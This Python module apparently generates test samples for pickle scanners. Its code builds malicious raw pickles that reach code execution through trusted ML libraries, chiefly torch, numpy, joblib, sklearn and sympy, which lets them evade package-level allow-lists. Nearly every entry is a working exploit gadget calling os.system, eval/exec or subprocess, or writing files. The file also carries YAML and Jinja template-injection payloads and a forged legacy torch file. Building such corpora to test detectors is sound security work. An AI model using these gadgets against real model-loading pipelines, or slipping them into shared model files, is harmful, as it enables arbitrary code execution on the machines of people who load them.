"""Raw pickles whose gadget lies inside a machine-learning framework or a library that comes with one.

The names start with a package that allow-lists tend to trust as a whole. Each was found in the installed versions
(torch 2.13, numpy 2.4, scikit-learn 1.9, joblib 1.6, sympy 1.14, …) by reading their source.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from .asm import Build, Call, Global, New, Raw, Then, encode, pickled
from .sample import Kit, Sample, gadget

G, C = Global, Call
SYSTEM = G("os.system")


def samples() -> list[Sample]:
    """All of this module."""
    return [*_numpy(), *_torch(), *_torch_more(), *_joblib(), *_others()]


def _nested(kit: Kit) -> bytes:
    return pickled(C(SYSTEM, kit.shell), 2)


def _family(needs: str, entries: dict[str, Callable[[Kit], Any]], **calls: tuple[str, ...]) -> list[Sample]:
    prefix = needs.replace("_", "-").replace(".", "-")
    return [
        gadget(
            f"{prefix}-{name}",
            f"a function inside {needs} that runs code or commands, or writes files",
            build,
            needs=(needs,),
            calls=calls.get(name.replace("-", "_"), ()),
            reference=_REFERENCES.get(f"{prefix}-{name}", ""),
        )
        for name, build in entries.items()
    ]


_REFERENCES = {
    "torch-collect-env": "GHSA-f745-w6jp-hpxx",
    "torch-basichandlers": "GHSA-h3qp-7fh3-f8h4",
    "torch-exec-wrapper": "GHSA-vr7h-p6mm-wpmh",
    "torch-load-config": "GHSA-vv6j-3g6g-2pvj",
    "torch-guard-expression": "GHSA-f4x7-rfwp-v3xw",
    "torch-guard-builder": "GHSA-86cj-95qr-2p4f",
    "torch-parse-type-line": "CVE-2022-45907",
    "torch-rpc-run-function": "CVE-2024-5480",
}


def _numpy() -> list[Sample]:
    return _family("numpy", {
        "runstring": lambda k: C(G("numpy.testing._private.utils.runstring"), k.code, {}),
        "runstring-public": lambda k: C(G("numpy.testing.runstring"), k.code, {}),
        "measure": lambda k: C(G("numpy.testing.measure"), k.code, 1),
        "f2py-getlincoef": lambda k: C(G("numpy.f2py.crackfortran.getlincoef"), k.code, {}),
        "f2py-myeval": lambda k: C(G("numpy.f2py.crackfortran.myeval"), k.code, {}, {}),
        "f2py-param-eval": lambda k: C(G("numpy.f2py.crackfortran.param_eval"), k.code, {}, {}),
        "f2py-eval-length": lambda k: C(G("numpy.f2py.crackfortran._eval_length"), f"({k.code})", {}),
        "distutils-exec-command": lambda k: C(G("numpy.distutils.exec_command.exec_command"), k.shell),
        "memmap": lambda k: C(G("numpy.memmap"), k.path, "uint8", "w+", 0, (4,)),
        "save": lambda k: C(G("numpy.savetxt"), k.path, [1.0]),
        "tofile": lambda k: C(G("numpy", "ndarray.tofile"), C(G("numpy.arange"), 3), k.path),
        "dump": lambda k: C(G("numpy", "ndarray.dump"), C(G("numpy.arange"), 3), k.path),
        "open-memmap": lambda k: C(G("numpy.lib.format.open_memmap"), k.path, "w+", "uint8", (4,)),
        "load": lambda k: C(G("numpy.load"), C(G("io.BytesIO"), _nested(k)), None, True),
        "loads-of-object-array": lambda k: C(G("numpy.lib.format.read_array"), C(G("io.BytesIO"), _object_array(k)), True),
        "vectorize": lambda k: C(C(G("numpy.vectorize"), SYSTEM), k.shell),
        "frompyfunc": lambda k: C(C(G("numpy.frompyfunc"), SYSTEM, 1, 1), k.shell),
        "fromiter": lambda k: C(G("numpy.fromiter"), C(G("builtins.map"), SYSTEM, [k.shell]), "int32"),
        "apply-along-axis": lambda k: C(G("numpy.fromfunction"),
                                        C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)), (1,)),
        "piecewise": lambda k: C(G("numpy.apply_over_axes"),
                                 C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)), C(G("numpy.zeros"), 2), 0),
        "builtins-of-numpy": lambda k: C(C(G("builtins", "dict.get"), G("numpy", "__builtins__"), "eval"), k.code),
        "ctypeslib": lambda k: C(C(G("builtins.getattr"), C(G("numpy.ctypeslib.load_library"), "libc.so.6", "/lib/x86_64-linux-gnu"),
                                   "system"), k.shell.encode()),
        "os-of-numpy": lambda k: C(G("numpy.lib._datasource", "os.system"), k.shell),
        "sys-of-numpy": lambda k: C(C(G("builtins.getattr"), C(G("builtins", "dict.get"), G("numpy.lib._datasource", "os.sys.modules"), "posix"), "system"), k.shell),
        "array-of-object": lambda k: C(G("numpy.array"), C(G("builtins.list"), C(G("builtins.map"), SYSTEM, [k.shell]))),
        "array-interface": lambda k: C(G("numpy.asarray"), C(C(G("builtins.type"), "X", (), {
            "__array__": C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,))}))),
    }, f2py_getlincoef=("numpy.f2py.crackfortran.getlincoef",), builtins_of_numpy=("numpy.__builtins__", "builtins.dict.get"), load=("numpy.load", "os.system", "posix.system"))  # fmt: skip


def _object_array(kit: Kit) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + _nested(kit)


def _torch() -> list[Sample]:
    return _family("torch", {
        "collect-env": lambda k: C(G("torch.utils.collect_env.run"), k.shell),
        "collect-env-read": lambda k: C(G("torch.utils.collect_env.run_and_read_all"), G("torch.utils.collect_env.run"), k.shell),
        "exec-wrapper": lambda k: C(G("torch.jit.unsupported_tensor_ops.execWrapper"), k.code, {}, {}),
        "load-config": lambda k: C(G("torch._inductor.config", "load_config"), _nested(k)),
        "basichandlers": lambda k: C(G("torch.utils.data.datapipes.utils.decoder.basichandlers"), "pickle", _nested(k)),
        "guard-expression": lambda k: C(G("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
                                        New(G("torch.fx.experimental.symbolic_shapes.ShapeEnv")), k.code, []),
        "load-from-bytes": lambda k: C(G("torch.storage._load_from_bytes"), _legacy(k)),
        "fx-exec": lambda k: C(G("torch.fx.graph_module._exec_with_source"), k.code, {}),
        "fx-forward-from-src": lambda k: C(G("torch.fx.graph_module._forward_from_src"), f"{k.code}\nforward = None", {}),
        "fx-reduce-graph-module": lambda k: C(G("torch.fx.graph_module.reduce_graph_module"), {"_code": f"{k.code}\ndef forward(self): pass"}, ""),
        "fx-import-block": lambda k: C(G("torch.fx.graph_module.reduce_graph_module"), {"_code": "def forward(self): pass"}, k.code + "\n"),
        "remote-module-instantiator": lambda k: C(G("torch.distributed.rpc.internal._run_function"),
                                                  C(G("torch.distributed.rpc.internal.PythonUDF"), SYSTEM, (k.shell,), {})),
        "rpc-deserialize": lambda k: C(G("torch.distributed.rpc.internal.deserialize"), _nested(k), []),
        "serialization-load": lambda k: C(G("torch.serialization._legacy_load"), C(G("io.BytesIO"), _legacy(k)), "cpu", G("torch.serialization", "pickle")),
        "package-importer": lambda k: C(G("torch.multiprocessing.queue", "ConnectionWrapper.recv"),
                                        C(G("torch.multiprocessing.queue.ConnectionWrapper"), C(C(G("builtins.type"), "X", (), {
                                            "recv_bytes": C(G("functools.partial"), G("operator.add"), _nested(k), b"")})))),
        "elastic-state": lambda k: C(G("torch._dynamo.pgo", "pickle.loads"), _nested(k)),
        "sympy-interp": lambda k: C(C(G("torch.fx.experimental.proxy_tensor.fake_signature"), SYSTEM, 1), k.shell),
        "library-schema": lambda k: C(G("torch.hub", "os.system"), k.shell),
        "hub-read-file": lambda k: C(C(G("builtins.getattr"), C(G("torch.hub._import_module"), "payload", _written("payload_file.py", k)), "x")),
        "run-cpu": lambda k: C(G("torch.utils.cpp_extension", "subprocess.getoutput"), k.shell),
        "compile-check": lambda k: C(G("torch._inductor.cpp_builder.run_compile_cmd"), k.shell, "."),
        "save": lambda k: C(G("torch.save"), [1], k.path),
        "from-file": lambda k: C(G("torch.from_file"), k.path, True, 4),
        "storage-from-file": lambda k: C(G("torch.storage", "UntypedStorage.from_file"), k.path, True, 4),
        "write-record": lambda k: C(G("torch._C.PyTorchFileWriter"), k.path),
        "builtins-of-torch": lambda k: C(C(G("builtins", "dict.get"), G("torch", "__builtins__"), "exec"), k.code),
        "tree-map": lambda k: C(G("torch.utils._pytree.tree_map"), SYSTEM, [k.shell]),
        "map-local": lambda k: C(G("torch.utils.data._utils.collate.default_collate"), [C(SYSTEM, k.shell)]),
        "module-apply": lambda k: C(G("torch.nn", "Module.apply"), C(G("torch.nn.Module")),
                                    C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,))),
    }, remote_module_instantiator=("torch.distributed.rpc.internal._run_function", "torch.distributed.rpc.internal.PythonUDF", "os.system"),
        load_from_bytes=("torch.storage._load_from_bytes", "os.system", "posix.system"))  # fmt: skip


def _written(name: str, kit: Kit) -> Raw:
    """Write a Python file, leave its name."""
    write = C(G("pathlib", "Path.write_text"), C(G("pathlib.Path"), name), kit.code)
    return Raw(encode(write, 4) + b"0" + encode(name, 4))


def _legacy(kit: Kit) -> bytes:
    """A torch file of before 1.6: five pickles in a row."""
    return (
        pickled(0x1950A86A20F9469CFC6C, 2)
        + pickled(1001, 2)
        + pickled({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
        + pickled(C(SYSTEM, kit.shell), 2)
        + pickled([], 2)
    )


def _torch_more() -> list[Sample]:
    """Hooks that torch's own classes run while they are rebuilt."""
    return _family("torch", {
        "rebuild-parameter-state": lambda k: C(G("torch._utils._set_obj_state"), C(C(G("builtins.type"), "X", (), {})),
                                               C(SYSTEM, k.shell)),
        "rebuild-from-type": lambda k: C(G("torch._tensor._rebuild_from_type_v2"), SYSTEM, G("builtins.int"), (k.shell,), None),
        "rebuild-from-type-1": lambda k: C(G("torch._tensor._rebuild_from_type"), SYSTEM, G("builtins.int"), (k.shell,), {}),
        "unpickle-node": lambda k: C(G("torch._library.infer_schema", "typing.ForwardRef._evaluate"), C(G("typing.ForwardRef"), k.code), {}, {}, C(G("builtins.frozenset"))),
        "dispatch-table-tensor": lambda k: C(G("torch._utils._rebuild_device_tensor_from_numpy"), C(SYSTEM, k.shell), None, None, False),
        "backward-hooks": lambda k: C(G("torch._utils._rebuild_tensor_v2"), C(SYSTEM, k.shell), 0, (1,), (1,), False,
                                      C(G("collections.OrderedDict"))),
        "ordered-hooks": lambda k: C(G("torch._utils._rebuild_parameter"), C(SYSTEM, k.shell), True, C(G("collections.OrderedDict"))),
        "setstate-module": lambda k: Build(New(G("torch.nn.Module")), C(SYSTEM, k.shell)),
    }, unpickle_node=("torch._library.infer_schema.typing.ForwardRef._evaluate", "typing.ForwardRef"))  # fmt: skip


def _joblib() -> list[Sample]:
    return [
        *_family("joblib", {
            "load": lambda k: C(G("joblib.load"), C(G("io.BytesIO"), _nested(k))),
            "numpy-pickle-load": lambda k: C(G("joblib.numpy_pickle.load"), C(G("io.BytesIO"), _nested(k))),
            "batched-calls": lambda k: C(G("joblib.parallel", "BatchedCalls.__call__"), C(G("joblib.parallel.BatchedCalls"),
                                         [(SYSTEM, (k.shell,), {})], C(G("joblib._parallel_backends.SequentialBackend")))),
            "delayed-parallel": lambda k: C(C(G("joblib.Parallel")), [(SYSTEM, (k.shell,), {})]),
            "loky-reconstruct": lambda k: C(G("joblib.externals.loky.cloudpickle_wrapper._reconstruct_wrapper"), _nested(k), False),
            "loky-wrapper": lambda k: C(C(G("joblib.externals.loky.cloudpickle_wrapper.CallableObjectWrapper"), SYSTEM), k.shell),
            "loky-call-item": lambda k: C(C(G("joblib.externals.loky.process_executor._CallItem"), 1, SYSTEM, (k.shell,), {})),
            "memory-call": lambda k: C(G("joblib.memory", "NotMemorizedFunc.__call__"), C(G("joblib.memory.NotMemorizedFunc"), SYSTEM), k.shell),
            "run-command": lambda k: C(G("joblib.testing", "subprocess.getoutput"), k.shell),
            "dump": lambda k: C(G("joblib.dump"), 1, k.path),
            "disk-mkdirp": lambda k: C(G("joblib.disk.mkdirp"), k.path),
        }),
        *_family("sklearn", {
            "func-wrapper": lambda k: C(C(G("sklearn.utils.parallel._FuncWrapper"), SYSTEM), k.shell),
            "function-transformer": lambda k: C(G("sklearn.preprocessing", "FunctionTransformer.transform"),
                                                C(G("sklearn.preprocessing.FunctionTransformer"), SYSTEM), k.shell),
            "compose-callable": lambda k: C(G("sklearn.utils.fixes", "platform.os.system") , k.shell),
            "bunch-setstate": lambda k: C(G("sklearn.datasets._base", "os.system"), k.shell),
            "cached": lambda k: C(G("sklearn.datasets._rcv1", "joblib.dump"), 1, k.path),
        }, compose_callable=("sklearn.utils.fixes.platform.os.system", "os.system", "posix.system"),
            bunch_setstate=("sklearn.datasets._base.os.system", "os.system", "posix.system")),
    ]  # fmt: skip


def _others() -> list[Sample]:
    return [
        *_family("scipy", {
            "bunch": lambda k: C(G("scipy._lib._testutils", "os.system"), k.shell),
            "lowlevel": lambda k: C(G("builtins.list"), C(C(G("scipy._lib._util.MapWrapper"), 1), SYSTEM, [k.shell])),
            "minimize": lambda k: C(G("scipy.optimize.brute"), C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
                                    [(0, 1)]),
            "savemat": lambda k: C(G("scipy.io.savemat"), k.path, {}, False),
            "wavfile": lambda k: C(G("scipy.io.wavfile.write"), k.path, 8000, C(G("numpy.zeros"), 4, "int16")),
        }),
        *_family("sympy", {
            "sympify": lambda k: C(G("sympy.sympify"), f"__import__('os').system('{k.shell}')"),
            "parse-expr": lambda k: C(G("sympy.parsing.sympy_parser.parse_expr"), f"__import__('os').system('{k.shell}')"),
            "lambdify": lambda k: C(C(G("sympy.lambdify"), [], k.code)),
            "eval-expr": lambda k: C(G("sympy.parsing.sympy_parser.eval_expr"), k.code, {}, {}),
            "symbol": lambda k: C(G("sympy.core.sympify.sympify"), f"__import__('os').system('{k.shell}')"),
        }),
        *_family("jinja2", {
            "template": lambda k: C(G("jinja2", "Template.render"), C(G("jinja2.Template"), _jinja(k))),
            "native": lambda k: C(G("jinja2.nativetypes", "NativeTemplate.render"), C(G("jinja2.nativetypes.NativeTemplate"), _jinja(k))),
        }),
        *_family("yaml", {
            "unsafe-load": lambda k: C(G("yaml.unsafe_load"), f"!!python/object/apply:os.system ['{k.shell}']"),
            "load-loader": lambda k: C(G("yaml.load"), f"!!python/object/apply:os.system ['{k.shell}']", G("yaml.UnsafeLoader")),
        }),
        *_family("cloudpickle", {
            "loads": lambda k: C(G("cloudpickle.loads"), _nested(k)),
            "subimport": lambda k: C(C(G("builtins.getattr"), C(G("cloudpickle.cloudpickle.subimport"), "os"), "system"), k.shell),
            "builtin-type": lambda k: C(C(C(G("cloudpickle.cloudpickle._builtin_type"), "MethodType"), SYSTEM, k.shell)),
        }),
        *_family("setuptools", {
            "spawn": lambda k: C(G("setuptools._distutils.spawn.spawn"), k.argv),
            "write-file": lambda k: C(G("setuptools._distutils.file_util.write_file"), k.path, []),
        }),
        *_family("pip", {
            "main": lambda k: C(G("pip.main"), ["config", "--user", "debug", "--log", k.path]),
            "call-subprocess": lambda k: C(Build(
                C(G("functools.partial"), G("pip._internal.utils.subprocess.call_subprocess")),
                (G("pip._internal.utils.subprocess.call_subprocess"), (k.argv,), {"command_desc": "x"}, None))),
            "resolve": lambda k: C(C(G("pip._vendor.pygments.formatters.load_formatter_from_file"), _written("f.py", k))),
        }, main=("pip.main",)),
        *_family("fsspec", {
            "touch": lambda k: C(G("fsspec.implementations.local", "LocalFileSystem.touch"), C(G("fsspec.implementations.local.LocalFileSystem")), k.path),
        }),
        *_family("huggingface_hub", {
            "subprocess": lambda k: C(G("huggingface_hub.utils._subprocess.run_subprocess"), k.argv),
        }),
        *_family("transformers", {
            "os": lambda k: C(G("transformers.dynamic_module_utils", "os.system"), k.shell),
            "import": lambda k: C(C(G("builtins.getattr"), C(G("transformers.dynamic_module_utils", "importlib.import_module"), "os"), "system"), k.shell),
        }),
        *_family("networkx", {
            "write": lambda k: C(G("networkx.write_gml"), C(G("networkx.Graph")), k.path),
        }),
        *_family("mpmath", {
            "identify": lambda k: C(G("mpmath.libmp.backend.exec_"), k.code, {}, {}),
        }),
    ]  # fmt: skip


def _jinja(kit: Kit) -> str:
    return "{{ cycler.__init__.__globals__.os.system('" + kit.shell + "') }}"
